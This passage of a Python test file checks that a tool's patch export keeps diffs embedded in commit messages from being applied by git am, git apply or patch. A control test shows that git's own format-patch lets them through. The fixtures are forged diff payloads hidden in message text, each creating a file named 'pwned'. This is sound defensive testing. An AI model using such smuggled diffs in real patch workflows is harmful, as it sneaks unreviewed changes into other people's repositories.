            "carriage returns": FORGED.replace("\n", "\r\n"), "context": "*** /dev/null\n--- pwned\n***************\n*** 0 ****\n--- 1 ----\n+ pwned\n", "scissors": "-- >8 --\n" + FORGED}


@test
def a_diff_in_a_message_is_text_for_whoever_applies_the_mails(place):
    tool("patch")
    make_repository(place)
    shutil.copytree(place.work, place.dir / "before")
    for number, message in enumerate(MESSAGES.values()):
        write(place.work / f"message{number}", f"commit {number}\n\nwords\n\n{message}\nlast words\n".replace("words\n\nFrom:", "From:"))
    agent(place, f"for i in $(seq 0 {len(MESSAGES) - 1}); do echo $i >file$i; git add file$i; git commit -q --cleanup=verbatim -F message$i; done")
    done = place.cove("export", "--patch", "-o", place.dir / "mails")
    equal((done.code, done.errors.count("lines of its message")), (0, len(MESSAGES)), done)
    names = [str(place.dir / "mails" / name) for name in done.text.split()]
    ways = {"git am": ["git", *IDENTITY_OF_OWNER, "am", "-q"], "git am --scissors": ["git", *IDENTITY_OF_OWNER, "am", "-q", "--scissors"], "git apply": ["git", "apply"], "patch": ["patch", "-s", "-f", "-p1", "-i"]}
    for way, command in ways.items():
        copy = place.dir / way.replace(" ", "-")
        shutil.copytree(place.dir / "before", copy)
        for kind, name in zip(MESSAGES, names):
            applied_one = subprocess.run([*command, name], cwd=copy, env=place.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
            equal((applied_one.returncode, (copy / "pwned").exists()), (0, False), (way, kind, applied_one.stdout))
        equal(sorted(path.name for path in copy.glob("file*")), sorted(f"file{i}" for i in range(len(MESSAGES))), way)
    log = git(place, "log", "--format=%an %s%n%b", cwd=place.dir / "git-am")
    assert "Other" not in re.sub("^> .*", "", log, flags=re.M) and log.count("last words") == len(MESSAGES) and "> diff --git a/pwned b/pwned" in log, log
    # The control: the same commits as git itself writes them.
    applied(place)
    control = place.dir / "control"
    shutil.copytree(place.dir / "before", control)
    git(place, "format-patch", "-q", "-o", str(place.dir / "plain"), "main..cove/bot/main")
    fell = []
    for name in sorted((place.dir / "plain").iterdir()):
        git(place, "am", "-q", str(name), cwd=control, check=False)
        git(place, "am", "--abort", cwd=control, check=False)
        fell += [name.name] if (control / "pwned").exists() else []
        git(place, "reset", "-q", "--hard", "main~0", cwd=control)
        subprocess.run(["git", "rm", "-qf", "--ignore-unmatch", "pwned"], cwd=control, env=place.env, check=True)
        git(place, "commit", "-qm", "clean", cwd=control, check=False)
    assert len(fell) >= 4, f"git am fell into {fell} only"


@test
def an_export_of_several_branches_has_a_directory_for_each(place):
    make_repository(place)
    agent(place, TWO_BRANCHES)
    equal(place.cove("export", "--patch", "-o", place.dir / "mails").code, 0)
    equal(sorted(str(p.relative_to(place.dir / "mails")) for p in (place.dir / "mails").rglob("*.patch")),
          ["bot-main/0001-second.patch", "bot-main/0002-third.patch", "bot-side/0001-second.patch", "bot-side/0002-third.patch", "bot-side/0003-fourth.patch"])


assert IDENTITY and os
adopt_orphans()
main()
